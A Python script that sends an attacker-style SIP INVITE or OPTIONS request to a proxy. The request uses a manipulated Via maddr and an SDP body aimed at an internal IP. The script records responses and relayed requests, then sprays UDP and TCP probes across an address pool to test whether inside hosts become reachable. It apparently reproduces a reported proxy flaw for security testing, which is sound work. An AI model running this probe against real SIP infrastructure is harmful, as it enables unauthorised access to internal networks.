#!/usr/bin/python3
"""sipattack: one hand-made SIP request to a proxy, as an attacker would send
it; report every response and every request that reaches the sender's own
socket (a relay back to it).

    sipattack.py --bind IP:PORT --to IP:PORT [--method INVITE|OPTIONS]
                 [--ruri URI] [--via-maddr IP] [--sdp-ip IP]
                 [--audio-port N] [--msrp-port N] [--wait S]
                 [--spray-pool A.B.C.D/LEN --spray-udp PORT --spray-tcp PORT]

The INVITE carries the issue's SDP: c=IN IP4 SDP-IP, m=audio AUDIO-PORT
RTP/AVP 0 and m=application MSRP-PORT TCP/MSRP *. A non-2xx final response
is ACKed (RFC 3261 17.1.1.3). With --spray-pool, after the wait, one UDP
datagram to every address of the pool at --spray-udp and one TCP connect
to --spray-tcp (what an attacker would try to reach an inside host through
a binding it hoped for; 0.2 s per connect).
Prints "sent=N method=M callid=C", "rx status=NNN from=IP:PORT reason=..",
"rx request=METHOD from=IP:PORT" (a request relayed to us), then
"final=NNN|none responses=N relayed=N", and with --spray-pool
"spray udp_sent=N tcp_connected=N".
"""
import argparse, ipaddress, random, socket, time

def hostport(s):
    h, _, p = s.rpartition(":")
    return (h, int(p))

def build(a):
    lip, lport = a.bind
    tag = "%08x" % random.getrandbits(32)
    branch = "z9hG4bK-atk-%08x" % random.getrandbits(32)
    cid = "atk-%s-%08x@%s" % (a.method.lower(), random.getrandbits(32), lip)
    via = "Via: SIP/2.0/UDP %s:%d;branch=%s;rport" % (lip, lport, branch)
    if a.via_maddr:
        via += ";maddr=" + a.via_maddr
    body = ""
    if a.method == "INVITE":
        body = ("v=0\r\no=atk 1 1 IN IP4 %s\r\ns=-\r\nc=IN IP4 %s\r\nt=0 0\r\n"
                "m=audio %d RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n"
                "m=application %d TCP/MSRP *\r\na=accept-types:text/plain\r\n"
                "a=path:msrp://%s:%d/atk;tcp\r\n") % (
                    a.sdp_ip, a.sdp_ip, a.audio_port, a.msrp_port, a.sdp_ip, a.msrp_port)
    hdr = ["%s %s SIP/2.0" % (a.method, a.ruri), via,
           "From: <sip:atk@%s>;tag=%s" % (a.from_host or lip, tag),
           "To: <%s>" % a.ruri,
           "Call-ID: %s" % cid,
           "CSeq: 1 %s" % a.method,
           "Contact: <sip:atk@%s:%d>" % (lip, lport),
           "Max-Forwards: 70"]
    if body:
        hdr.append("Content-Type: application/sdp")
    data = "\r\n".join(hdr) + "\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
    return data.encode(), cid

def ack_for(s, a, req, resp):
    rq = req.decode(errors="replace").split("\r\n")
    rs = resp.decode(errors="replace").split("\r\n")
    def hget(lines, name):
        return next((l for l in lines if l.lower().startswith(name.lower() + ":")), None)
    start = rq[0].split(" ")
    to, cid = hget(rs, "To"), hget(rq, "Call-ID")
    if start[0] != "INVITE" or not to or not cid:
        return
    hdr = ["ACK %s SIP/2.0" % start[1], hget(rq, "Via"), hget(rq, "From"), to, cid,
           "CSeq: 1 ACK", "Max-Forwards: 70", "Content-Length: 0"]
    try:
        s.sendto(("\r\n".join(hdr) + "\r\n\r\n").encode(), a.to)
    except OSError:
        pass

def spray(a):
    net = ipaddress.ip_network(a.spray_pool)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = conn = 0
    for ip in list(net)[:64]:
        try:
            udp.sendto(b"atk-udp", (str(ip), a.spray_udp))
            sent += 1
        except OSError:
            pass
        t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        t.settimeout(0.2)
        try:
            t.connect((str(ip), a.spray_tcp))
            t.sendall(b"atk-tcp")
            conn += 1
        except OSError:
            pass
        t.close()
    print("spray udp_sent=%d tcp_connected=%d" % (sent, conn), flush=True)

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bind", type=hostport, required=True)
    ap.add_argument("--to", type=hostport, required=True)
    ap.add_argument("--method", default="INVITE", choices=["INVITE", "OPTIONS"])
    ap.add_argument("--ruri", default=None)
    ap.add_argument("--from-host", default=None)
    ap.add_argument("--via-maddr", default=None)
    ap.add_argument("--sdp-ip", default="10.1.0.10")
    ap.add_argument("--audio-port", type=int, default=7777)
    ap.add_argument("--msrp-port", type=int, default=2222)
    ap.add_argument("--wait", type=float, default=3.0)
    ap.add_argument("--spray-pool", default=None)
    ap.add_argument("--spray-udp", type=int, default=7777)
    ap.add_argument("--spray-tcp", type=int, default=2222)
    a = ap.parse_args()
    if not a.ruri:
        a.ruri = "sip:x@%s:%d" % a.bind
    data, cid = build(a)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(a.bind)
    s.sendto(data, a.to)
    print("sent=%d method=%s callid=%s" % (len(data), a.method, cid), flush=True)
    final = None
    n = relayed = 0
    deadline = time.monotonic() + a.wait
    while time.monotonic() < deadline:
        s.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            buf, peer = s.recvfrom(65535)
        except socket.timeout:
            break
        except OSError as e:
            print("recv_error=%s" % e.strerror.replace(" ", "_"))
            break
        line = buf.split(b"\r\n", 1)[0].decode(errors="replace")
        parts = line.split(" ", 2)
        if len(parts) >= 2 and parts[0] == "SIP/2.0" and parts[1].isdigit():
            n += 1
            st = int(parts[1])
            print("rx status=%d from=%s:%d reason=%s" % (
                st, peer[0], peer[1], (parts[2] if len(parts) > 2 else "").replace(" ", "_")),
                flush=True)
            if st >= 200 and final is None:
                final = st
                if st >= 300:
                    ack_for(s, a, data, buf)
        else:
            relayed += 1
            print("rx request=%s from=%s:%d" % (parts[0][:20], peer[0], peer[1]), flush=True)
    print("final=%s responses=%d relayed=%d" % (final or "none", n, relayed), flush=True)
    if a.spray_pool:
        spray(a)

main()
